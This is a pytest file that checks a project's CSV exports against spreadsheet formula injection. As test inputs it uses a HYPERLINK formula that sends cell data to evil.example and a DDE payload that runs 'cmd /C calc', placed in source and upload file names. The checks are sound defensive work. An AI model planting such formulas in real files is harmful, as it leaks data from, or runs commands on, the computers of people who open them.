"""No file that Barun hands out runs anything in a spreadsheet (CSV injection)."""

import csv
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from barun.landmarks.formats.barun_csv import read_barun_csv, write_barun_csv
from barun.landmarks.recording import LandmarkRecording
from barun.learning.datasets.csv_file import read_rows_csv, write_rows_csv
from tests.learning.datasets.row_samples import make_rows
from tests.service.conftest import Service
from tests.service.fakes import FakeAnalyser, make_sequence

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
RUN_BY_SPREADSHEETS = ("=", "+", "-", "@", "\t", "\r")


def assert_nothing_runs(content: str) -> None:
    texts = []
    for row in csv.reader(content.splitlines()):
        for cell in row:
            try:
                float(cell)
            except ValueError:
                texts.append(cell)
    assert texts
    assert [cell for cell in texts if cell.startswith(RUN_BY_SPREADSHEETS)] == []


def test_landmarks_of_a_file_with_a_hostile_name(tmp_path: Path) -> None:
    sequence = replace(make_sequence(), source=FORMULA)
    path = tmp_path / "landmarks.csv"
    write_barun_csv(path, LandmarkRecording({0: sequence}))
    assert FORMULA.replace('"', '""') in path.read_text(encoding="utf-8")
    assert_nothing_runs(path.read_text(encoding="utf-8"))
    assert read_barun_csv(path).people[0].source == FORMULA


def test_labelled_rows_of_hostile_people(tmp_path: Path) -> None:
    rows = make_rows("P1", n_each=2)
    hostile = np.full(len(rows), FORMULA)
    path = tmp_path / "rows.csv"
    write_rows_csv(path, replace(rows, session=hostile, source=hostile, origin_file=hostile))
    assert_nothing_runs(path.read_text(encoding="utf-8"))
    assert read_rows_csv(path).source.tolist() == hostile.tolist()


@pytest.mark.parametrize("name", ["%3DHYPERLINK(1)", "=cmd|' /C calc'!A0.mp4"])
def test_a_download_of_an_upload_with_a_hostile_name(
    make_service: Callable[..., Service], name: str
) -> None:
    service = make_service(FakeAnalyser())
    recording = service.upload(name=name)
    service.wait_for(recording, "done")
    answer = service.request("GET", f"/api/recordings/{recording}/landmarks?format=csv")
    assert answer.status_code == 200
    assert_nothing_runs(answer.text)
